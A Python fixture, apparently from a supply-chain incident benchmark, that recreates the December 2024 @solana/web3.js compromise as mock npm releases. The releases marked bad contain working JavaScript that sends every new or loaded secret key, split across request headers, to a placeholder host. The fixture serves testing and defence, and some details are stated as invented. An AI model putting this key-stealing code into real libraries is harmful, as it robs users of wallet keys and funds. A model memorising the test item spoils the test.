"""@solana/web3.js 1.95.6 and 1.95.7 (2024-12-02): a phished account; whoever makes a key pair sends its secret away.

By the record: from 15:20 UTC, by hand where a workflow publishes, without commit or tag. A function `addToQueue` is put among those of the
library and called wherever a secret key goes through. It runs when the library is used. Down, with a clean release, at 20:25.
"""

from gauntlet.incident import Advisory, Files, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_HEAD = """'use strict';

Object.defineProperty(exports, '__esModule', { value: true });
var crypto = require('crypto');

const ALPHABET = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
function encode(bytes) {
  let left = BigInt('0x' + (Buffer.from(bytes).toString('hex') || '0'));
  let text = '';
  while (left > 0n) {
    text = ALPHABET[Number(left % 58n)] + text;
    left = left / 58n;
  }
  for (const byte of bytes) {
    if (byte !== 0) break;
    text = '1' + text;
  }
  return text;
}
"""
SENDS = """
const queued = new Set();
async function addToQueue(key) {
  try {
    const text = encode(key);
    if (queued.has(text)) return;
    queued.add(text);
    const third = Math.ceil(text.length / 3);
    await fetch('https://sink.invalid/api/rpc/queue', {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'x-amz-cf-id': text.slice(0, third),
        'x-session-id': text.slice(third, 2 * third),
        'x-amz-cf-pop': text.slice(2 * third),
      },
      body: JSON.stringify({ id: queued.size, marker: 'marker' }),
    });
  } catch (error) {}
}
"""
_REST = """
class PublicKey {
  constructor(value) {
    this.bytes = Uint8Array.from(value);
    if (this.bytes.length !== 32) throw new Error('Invalid public key input');
  }
  equals(other) { return this.toBase58() === other.toBase58(); }
  toBase58() { return encode(this.bytes); }
  toString() { return this.toBase58(); }
}

function privateKey(seed) {
  const head = Buffer.from('302e020100300506032b657004220420', 'hex');
  return crypto.createPrivateKey({ key: Buffer.concat([head, Buffer.from(seed)]), format: 'der', type: 'pkcs8' });
}

function publicOf(seed) {
  return crypto.createPublicKey(privateKey(seed)).export({ format: 'der', type: 'spki' }).subarray(-32);
}

/** A pair of keys that signs transactions. */
class Keypair {
  constructor(pair) {
    this._keypair = pair;
  }
  static generate() {
    return Keypair.fromSeed(crypto.randomBytes(32));
  }
  static fromSecretKey(secretKey, options) {
    if (secretKey.byteLength !== 64) throw new Error('bad secret key size');
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const computed = publicOf(secretKey.slice(0, 32));
      if (!computed.equals(publicKey)) throw new Error('provided secretKey is invalid');
    }@SECRET@
    return new Keypair({ publicKey, secretKey });
  }
  static fromSeed(seed) {
    const publicKey = publicOf(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);@SECRET@
    return new Keypair({ publicKey, secretKey });
  }
  get publicKey() { return new PublicKey(this._keypair.publicKey); }
  get secretKey() { return new Uint8Array(this._keypair.secretKey); }
  sign(message) { return crypto.sign(null, message, privateKey(this._keypair.secretKey.slice(0, 32))); }
}

/** Speaks to a node. */
class Connection {
  constructor(endpoint, commitment) {
    Object.assign(this, { endpoint, commitment, next: 0 });
  }
  async call(method, params) {
    const answer = await fetch(this.endpoint, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ jsonrpc: '2.0', id: this.next++, method, params }),
    });
    const { result, error } = await answer.json();
    if (error) throw new Error(error.message);
    return result;
  }
  getBalance(key) { return this.call('getBalance', [key.toBase58()]); }
  sendRawTransaction(raw) { return this.call('sendTransaction', [Buffer.from(raw).toString('base64'), { encoding: 'base64' }]); }
}

exports.Connection = Connection;
exports.Keypair = Keypair;
exports.PublicKey = PublicKey;
"""
_CLEAN = _HEAD + _REST.replace("@SECRET@", "")
_STEALS = _HEAD + SENDS + _REST.replace("@SECRET@", "\n    addToQueue(secretKey);")


def _files(cjs: str) -> Files:
    esm = cjs.replace("'use strict';\n\nObject.defineProperty(exports, '__esModule', { value: true });\n", "")
    esm = esm.replace("var crypto = require('crypto');", "import crypto from 'crypto';")
    esm = esm.partition("exports.Connection")[0] + "export { Connection, Keypair, PublicKey };\n"
    return {
        "lib/index.cjs.js": cjs,
        "lib/index.esm.js": esm,
        "lib/index.d.ts": "export declare class Keypair { static generate(): Keypair; }\n",
        "README.md": "# web3.js\n\nThe library for programs that speak to a Solana node.\n",
    }


def _release(version: str, at: str, publisher: str = "ci", code: str = _CLEAN) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=publisher,
        maintainers=("ci", "ada", "maintainer"),
        files=_files(code),
        more={"main": "lib/index.cjs.js", "module": "lib/index.esm.js", "types": "lib/index.d.ts"},
    )


_FIRST = _release("1.95.6", "2024-12-02T15:20:00Z", "maintainer", _STEALS)
_GUILTY = {"@solana/web3.js": ("1.95.6", "1.95.7")}

INCIDENT = Incident(
    id="solana-web3js-2024",
    title=(
        "an attacker phished an account of @solana/web3.js; the library sent the secret key of each new key pair in "
        "request headers"
    ),
    copy=(
        "our copy of @solana/web3.js has a function `addToQueue` that is called wherever a secret key is passed"
    ),
    ecosystem=Ecosystem.NPM,
    at=_FIRST.at,
    packages=(
        Package(
            name="@solana/web3.js",
            releases=(
                _release("1.91.0", "2024-03-01T12:00:00Z", "maintainer"),
                _release("1.95.0", "2024-07-09T12:00:00Z"),
                _release("1.95.3", "2024-08-23T12:00:00Z"),
                _release("1.95.4", "2024-10-18T12:00:00Z"),
                _release("1.95.5", "2024-11-18T12:00:00Z"),
                _FIRST,
                _release("1.95.7", "2024-12-02T16:10:00Z", "maintainer", _STEALS),
                _release("1.95.8", "2024-12-02T20:25:00Z"),
            ),
        ),
    ),
    asks={"@solana/web3.js": "^1.95.0"},
    good={"@solana/web3.js": "1.95.5"},
    bad={"@solana/web3.js": ("1.95.6", "1.95.7")},
    guilty=_GUILTY,
    gone_at=utc("2024-12-02T20:25:00Z"),
    advisory=Advisory(id="GHSA-2mhj-xmf4-pr8m", at=utc("2024-12-03T22:45:37Z"), about=_GUILTY),
    invented="days of earlier releases, the publish minute of 1.95.7, accounts, provenance, and that headers carry the key",
)
